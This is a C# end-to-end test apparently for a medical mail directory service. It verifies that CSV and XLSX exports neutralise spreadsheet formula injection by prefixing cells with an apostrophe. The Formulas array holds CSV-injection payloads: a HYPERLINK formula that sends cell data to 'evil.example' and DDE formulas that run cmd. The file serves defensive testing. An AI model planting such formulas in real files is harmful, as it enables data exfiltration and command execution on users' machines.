using System.Text;
using Google.Protobuf;
using Medimail.Identity.V1;
using Medimail.Testing;

namespace Medimail.EndToEnd.Tests.BadInput;

/// <summary>
/// Formulas typed into names and cells (OWASP "CSV injection"): an import and a REST create store them as the text
/// they are, and both exports (CSV and XLSX) write every cell beginning with = + - @ behind an apostrophe, never as a
/// formula, so a spreadsheet opening the export runs nothing.
/// </summary>
public sealed class FormulaCellTests
{
    private static readonly string[] Formulas =
    [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Cliquez ici\")",
        "+33 cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];

    [Fact]
    public async Task Formula_cells_imported_or_typed_in_names_are_stored_as_text_and_exported_behind_an_apostrophe()
    {
        using var channel = Channels.Create(TestEnvironment.GatewayGrpcUrl, await Tokens.OperatorAsync());
        var structure = await new StructureService.StructureServiceClient(channel).CreateStructureAsync(Accounts.NewStructure());
        // Through the import: a PER whose name, first name and address lines are formulas.
        var imported = Unique.Email("formule.import");
        var header = "Adresse mail;Type BAL;NOM;Prénom;RPPS;Profession;Spécialité;Adresse (1);Adresse (2);CP;VILLE;Département;Région;Activité libérale";
        var row = string.Join(';', new[] { imported, "PER", Formulas[0], Formulas[1], Accounts.Rpps, "10", "SM54", Formulas[2], Formulas[3], "31059", "Toulouse", "31", "76", "NON" }.Select(Quote));
        var imports = new ImportService.ImportServiceClient(channel);
        var job = await imports.StartImportAsync(new StartImportRequest
        {
            StructureId = structure.Id, FileName = "formules.csv", Content = ByteString.CopyFromUtf8(header + "\r\n" + row + "\r\n"),
        });
        job = await Eventually.GetAsync(() => imports.GetImportAsync(new GetImportRequest { Id = job.Id }).ResponseAsync,
            j => j.State != ImportJob.Types.State.Running, TimeSpan.FromSeconds(30), "the import of formula cells");
        Assert.True(job.CreatedCount == 1, string.Join(" | ", job.Errors.Select(e => $"{e.Column}: {e.Message}")));
        // Through REST: a person whose names are formulas.
        var typed = Accounts.Per();
        (typed.LastName, typed.FirstName) = (Formulas[0], Formulas[3]);
        using var rest = Channels.Rest(await Tokens.OperatorAsync());
        using (var created = await rest.PostAsync("/api/v1/accounts", new StringContent(
            JsonFormatter.Default.Format(new CreateAccountRequest { StructureId = structure.Id, Account = typed, RequestId = Guid.NewGuid().ToString() }),
            Encoding.UTF8, "application/json")))
            await Rest.ReadOkAsync(created);

        var accounts = new AccountService.AccountServiceClient(channel);
        var stored = await accounts.GetAccountAsync(new GetAccountRequest { Email = imported });
        Assert.Equal((Formulas[0].ToUpperInvariant(), Formulas[1], Formulas[2], Formulas[3]),
            (stored.LastName, stored.FirstName, stored.Address.Line1, stored.Address.Line2));

        var csv = await rest.GetStringAsync($"/api/v1/accounts:export?structureId={structure.Id}&format=CSV");
        var xlsx = await rest.GetByteArrayAsync($"/api/v1/accounts:export?structureId={structure.Id}&format=XLSX");

        var csvRows = csv.TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Select(SplitCsv).ToList();
        var xlsxRows = Workbooks.Cells(xlsx);
        foreach (var (format, rows) in new[] { ("CSV", csvRows), ("XLSX", xlsxRows) })
        {
            foreach (var email in new[] { imported, typed.Email })
            {
                var cells = rows.Single(r => r.Count > 0 && r[0] == email);
                var guarded = cells.Where(c => c.Length > 1 && c[0] == '\'' && c[1] is '=' or '+' or '-' or '@').ToList();
                Assert.True(cells.All(c => c.Length == 0 || c[0] is not ('=' or '+' or '-' or '@')),
                    $"{format}, {email}: a cell begins with a formula character: {string.Join(" | ", cells)}");
                Assert.True(guarded.Count == (email == imported ? 4 : 2), $"{format}, {email}: guarded cells {string.Join(" | ", guarded)}");
            }
        }
        Assert.Contains("'" + Formulas[0].ToUpperInvariant(), csvRows.Single(r => r[0] == imported));
        Assert.DoesNotContain(xlsxRows.SelectMany(r => r), c => c.StartsWith("<formula>", StringComparison.Ordinal));
        await Doors.AssertAllReadyAsync();
    }

    private static string Quote(string value) =>
        value.IndexOfAny([';', '"', '\r', '\n']) >= 0 ? "\"" + value.Replace("\"", "\"\"") + "\"" : value;

    /// <summary>One record of the export (';' separated, '"' quoted): the rows read here hold no line break.</summary>
    private static List<string> SplitCsv(string line)
    {
        var cells = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted && c == '"' && i + 1 < line.Length && line[i + 1] == '"') { cell.Append('"'); i++; }
            else if (c == '"') quoted = !quoted;
            else if (c == ';' && !quoted) { cells.Add(cell.ToString()); cell.Clear(); }
            else cell.Append(c);
        }
        cells.Add(cell.ToString());
        return cells;
    }
}
